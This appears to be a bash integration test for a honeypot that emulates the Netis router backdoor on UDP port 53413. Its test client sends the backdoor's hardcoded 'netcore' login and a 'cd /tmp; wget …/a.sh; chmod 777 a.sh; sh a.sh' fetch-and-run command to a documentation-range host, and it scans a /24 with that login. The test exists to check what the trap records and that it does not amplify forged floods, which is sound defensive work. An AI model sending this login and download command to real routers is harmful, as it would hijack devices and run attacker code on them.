#!/bin/bash
# 53413/UDP in the real program: real clients, what is kept of them, and that it never sends more than it is sent, whatever is
# forged. In network namespaces.
set -uo pipefail
# shellcheck source=tests/live/scenario.sh
source "$TEITEN_SOURCE/tests/live/scenario.sh"
reflect=$TEITEN_SOURCE/tests/trap/reflect.py

needs python3 pgrep nc

# begin NAME PROGRAM WORDS...: observes into $TMPDIR/NAME
begin() {
    local name=$1 program=$2
    shift 2
    : >"$TMPDIR/$name.log"
    netns_start SENSOR "$program" observe --interface sensor0 --prefix 192.0.2.0/24 --state "$TMPDIR/$name" \
        --set trap.telnet=127.0.0.1:0 --set trap.http=127.0.0.1:0 "$@" 2>>"$TMPDIR/$name.log"
    observer=$netns_pid
    until_true 20 said "$name" " started " || fail "$name does not begin"
    until_true 20 has_workers || fail "no workers of $name"
}

has_workers() {
    [[ $(pgrep -c -P "$observer" -f '^teiten-trap$') -ge 1 ]]
}

end() {
    netns_stop "$observer" || fail "$1 ended with $?"
    said "$1" " stopped " || fail "$1 did not say that it stopped"
}

# count NAME COUNTER: over all of the trap's workers
count() {
    "$release" status --json --state "$TMPDIR/$1" |
        python3 -c "import json, sys; print(sum(w['$2'] for w in json.load(sys.stdin)['workers'] if w['name'] == 'trap'))"
}

is_counted() { # NAME DATAGRAMS
    (($(count "$1" datagrams) + $(count "$1" lost) == $2))
}

# ---- clients ----

# What a loader says, from one socket: an exchange is that of a port.
loader() {
    netns_in SENDER python3 - "$@" <<'END'
import socket, sys
ours, target = sys.argv[1:3]
s = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET, socket.SOCK_DGRAM)
s.bind((ours, 0))
s.settimeout(5)
def ask(data):
    s.sendto(data, (target, 53413))
    answer = b""
    while True:
        got, (who, *_) = s.recvfrom(4096)
        assert who == target and len(got) <= 64, (who, got)
        answer += got
        if got[3] != 4:
            return answer
assert ask(b"\n") == b"\n\0\0\6\0\1\0\0\0\0\xd0\xa5Login:"
assert ask(b"AAAAAAAAnetcore\0") == b"AA\0\5ABAA\0\0\0\0Login successed!\r\n"
said = ask(b"AA\0\0AAAAcd /tmp; wget http://198.51.100.7/a.sh; chmod 777 a.sh; sh a.sh; echo done" + b" " * 40 + b"\0")
assert said == b"AA\0\4ABAAdone\nAA\0\5ACAA\0\0\0\0", said
END
}

# Both ends have an address of IPv6, and know each other.
six() {
    ip -n "$netns_sensor" address add 2001:db8::1/64 dev sensor0 nodad 2>/dev/null &&
        ip -n "$netns_sender" address add 2001:db8::2/64 dev sender0 nodad &&
        ip -n "$netns_sensor" neighbour replace 2001:db8::2 lladdr 02:00:00:00:00:02 nud permanent dev sensor0 &&
        ip -n "$netns_sender" neighbour replace 2001:db8::1 lladdr 02:00:00:00:00:01 nud permanent dev sender0
}

clients() {
    local id more=0
    begin clients "$TEITEN" --set trap.workers=1
    said clients "listening at=0.0.0.0:53413 service=netis" || fail "it does not listen"
    ip -n "$netns_sender" address add 203.0.113.20/32 dev sender0
    ip -n "$netns_sender" address add 203.0.113.120/32 dev sender0
    if six; then
        loader 2001:db8::2 2001:db8::1 >"$TMPDIR/loader6.out" 2>&1 || fail "the exchange over IPv6: $(<"$TMPDIR/loader6.out")"
        more=$((more + 3))
    fi
    loader 198.51.100.2 198.51.100.1 >"$TMPDIR/loader.out" 2>&1 || fail "the exchange: $(<"$TMPDIR/loader.out")"
    printf '\n' | netns_in SENDER nc -u -s 203.0.113.20 -w 1 198.51.100.1 53413 | cmp -s - <(printf '\n\0\0\6\0\1\0\0\0\0\320\245Login:') ||
        fail "nc is not answered"
    if command -v socat >/dev/null; then
        more=$((more + 1))
        printf 'AAAAAAAAnetcore\0' | netns_in SENDER socat -t 1 - UDP4:198.51.100.1:53413,bind=203.0.113.120 >"$TMPDIR/socat.out"
        # Its network has 64 bytes and what nc and it sent, less what nc was sent: 64 + 29 + 44 - 46, and 58 are asked for.
        [[ $(wc -c <"$TMPDIR/socat.out") == 30 ]] || fail "socat: $(od -c "$TMPDIR/socat.out")"
    fi
    # A command without a log-in is not run, and seen.
    printf 'AA\0\0AAAAreboot\0' | netns_in SENDER nc -u -p 45678 -w 1 198.51.100.1 53413 >/dev/null
    # A port that services have is not answered.
    printf '\n' | netns_in SENDER nc -u -p 53 -w 1 198.51.100.1 53413 >"$TMPDIR/low.out"
    [[ ! -s $TMPDIR/low.out ]] || fail "port 53 is answered"
    until_true 20 is_counted clients $((6 + more)) || fail "$("$release" status --state "$TMPDIR/clients")"
    [[ $(count clients lost) == 0 && $(count clients untold) == 0 ]] || fail "some are not told of"
    end clients
    holds clients "any(s['logged_in'] and s['commands'] == 1 and s['downloads'] == 1 and s['service'] == 'netis' and
        s['persona'] == 'netis-router' and s['source'] == '198.51.100.2' for s in d)" sessions ||
        fail "$("$release" sessions --state "$TMPDIR/clients")"
    holds clients "len(d) == 1 and d[0]['name'].startswith('cd /tmp; wget http://198.51.100.7/a.sh')" top commands || fail "commands"
    holds clients "d[0]['name'] == 'http://198.51.100.7/a.sh'" top downloads || fail "downloads are not told"
    holds clients "d[0]['name'] == '/netcore'" top credentials || fail "log-ins are not told"
    holds clients "{r['name']: r['count'] for r in d}['probe'] in (3, 4)" top datagrams || fail "$("$release" top datagrams --state "$TMPDIR/clients")"
    id=$("$release" sessions --json --state "$TMPDIR/clients" | python3 -c "
import json, sys
print(next(s['id'] for s in json.load(sys.stdin) if s['commands']))")
    holds clients "[e['type'] for e in d['events']] == ['open', 'datagram', 'datagram', 'login', 'datagram', 'command', 'download',
        'file', 'run', 'status', 'close'] or [e['type'] for e in d['events'] if e['type'] == 'datagram'] == ['datagram'] * 3" \
        session "$id" || fail "$("$release" session "$id" --state "$TMPDIR/clients")"
}

# ---- claimed addresses ----

# Logs in at each address of a /24, twice: those that answer, which answer by themselves, the same each time.
cat >"$TMPDIR/street.py" <<'END'
import select, socket
def answering(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("198.51.100.2", 0))
    for host in range(256):
        s.sendto(b"AAAAAAAAnetcore\0" + b" " * 60, (f"203.0.113.{host}", port))
    got = set()
    while select.select([s], [], [], 1.5)[0]:
        data, (who, source) = s.recvfrom(4096)
        assert data == b"AA\0\5ABAA\0\0\0\0Login successed!\r\n" and source == port, (who, source, data)
        got.add(who)
    return got
first = answering(53413)
assert first == answering(53413), "others answer the second time"
assert 5 <= len(first) <= 60 and all(who.startswith("203.0.113.") for who in first), sorted(first)
assert not answering(53414), "another port is answered"
print(len(first))
END

claimed() {
    local n
    if [[ ! -c /dev/net/tun ]]; then
        echo "skipped: claims need /dev/net/tun"
        return
    fi
    begin claimed "$release" --claim 203.0.113.0/24 --yes --set trap.workers=2
    n=$(netns_in SENDER python3 "$TMPDIR/street.py" 2>"$TMPDIR/street.err") || fail "a claimed street: $(<"$TMPDIR/street.err")"
    end claimed
    holds claimed "len({s['destination'] for s in d if s['logged_in']}) == $n and all(s['persona'] == 'netis-router' for s in d)" \
        sessions --limit 0 || fail "$n answered: $("$release" sessions --limit 0 --state "$TMPDIR/claimed")"
}

# ---- floods ----

# Through two workers. All that came is counted, and no network is sent more than came from it and 64 bytes.
floods() {
    local sent in out most
    begin floods "$release" --set trap.workers=2
    netns_in SENDER python3 "$reflect" sender0 198.51.100.1 53413 >"$TMPDIR/reflect.out" 2>"$TMPDIR/reflect.err" ||
        fail "forged floods are reflected: $(cat "$TMPDIR/reflect.out" "$TMPDIR/reflect.err")"
    read -r sent in out most <"$TMPDIR/reflect.out"
    echo "$sent datagrams, $in bytes in, $out bytes out, at most $most more towards a network at any time than had come from it"
    until_true 20 is_counted floods "$sent" || fail "not all of $sent are counted: $("$release" status --state "$TMPDIR/floods")"
    echo "lost: $(count floods lost), untold: $(count floods untold), not answered for the budget: $(count floods unanswered)"
    (($(count floods unanswered) > 0 && $(count floods untold) > 0 && $(count floods answered) > 1000)) ||
        fail "it was no flood: $(tail -n 2 "$TMPDIR/floods.log")"
    holds floods "sum(w['datagrams'] > 1000 for w in d['workers'] if w['name'] == 'trap') == 2" status || fail "one worker met them all"
    end floods
    "$release" verify --state "$TMPDIR/floods" >/dev/null || fail "what is kept does not verify"
}

netns_up || fail "no namespaces"
for part in ${ONLY:-clients claimed floods}; do
    "$part"
done
